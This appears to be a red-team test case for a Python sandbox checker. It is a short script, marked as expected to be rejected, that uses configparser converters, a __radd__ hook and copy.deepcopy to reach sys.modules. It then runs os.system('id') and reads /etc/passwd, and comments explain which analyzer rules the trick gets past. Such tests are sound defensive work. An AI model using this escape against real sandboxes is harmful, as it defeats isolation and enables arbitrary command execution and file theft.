# expect: reject attribute
# line: 68
# why: the red team's round 27c ok_03: a converters= key whose __radd__ answers __reduce_ex__ names the method configparser sets on its section proxies; the keys are text written out (and the wall takes only exact str keys)
# ok_03 -- goal 1 (full escape): runs `id`, prints /etc/passwd; on the way goal 2
#          (sys.modules itself, the os and builtins modules, the real open).
#
# Mechanism: a library that builds an attribute name by concatenation, answered by
#   the program's __radd__.  configparser's ConverterMapping.__setitem__ does
#       k = 'get' + key ; setattr(self._parser, k, func) ; setattr(proxy, k, getter)
#   and SectionProxy.__init__ repeats it for every later section.  With a converters=
#   key whose __radd__ returns "__reduce_ex__", every section proxy gets an
#   *instance* attribute __reduce_ex__ = partial(proxy.get, _impl=partial(
#   parser._get_conv, conv=<program function>)).  copy.deepcopy(parser["s"]) looks
#   __reduce_ex__ up on the instance and calls it with 4: proxy.get(4) ->
#   parser._get_conv -> parser.get(section, optionxform(4)) -> conv(value), and the
#   program's conv returns the reduce tuple.  copy._reconstruct then does
#       y = pick()                      (a library object: redirect_stdout(None))
#       setattr(y, k, v) for k, v in slotstate   (any names: private state forged)
#   so the library's own redirect_stdout gets _stream = "modules" and an
#   _old_targets list the program keeps (a list subclass whose __deepcopy__ returns
#   itself, so the state copy hands back the same list).  `with swap:` runs
#   _RedirectStream.__enter__: _old_targets.append(getattr(sys, "modules")).
#
# Why the checker missed it:
#   - the __radd__ reasoning (analyzer/names.c radd_free, README section 1) only
#     covers the program's own getattr/setattr prefix chains; library code doing
#     'get' + key with a program key is not modelled, and converters= is not judged;
#   - the hook rule (analyzer/hooks.c, README "hooks answered by lookup") lists the
#     ways an object can answer __reduce_ex__/__deepcopy__ (class body, stores,
#     instance-dict writes, dataclass fields, slots, extra= keys) but not a library
#     setattr with a computed name, so copy.deepcopy of a SectionProxy is a plain
#     one-argument deepcopy;
#   - the private-state writes happen inside copy._reconstruct (setattr from the
#     slotstate dict), so the store rule sees only a dict display with string keys
#     returned by a converter, never an attribute store on a library object.
import configparser
import contextlib
import copy


class Hook:
    def __radd__(self, other):
        return "__reduce_ex__"


class Keep(list):
    def __deepcopy__(self, memo):
        return self


class P(configparser.ConfigParser):
    def optionxform(self, optionstr):
        return "k"


held = Keep()
swap = contextlib.redirect_stdout(None)


def pick():
    return swap


def conv(text):
    return (pick, (), (None, {"_stream": "modules", "_old_targets": held}))


parser = P(converters={Hook(): conv})
parser.read_string("[s]\nk = v\n")
copy.deepcopy(parser["s"])
with swap:
    modules = held[0]
print(type(modules), modules["os"])
modules["os"].system("id")
print(modules["builtins"].open("/etc/passwd").read()[:80])
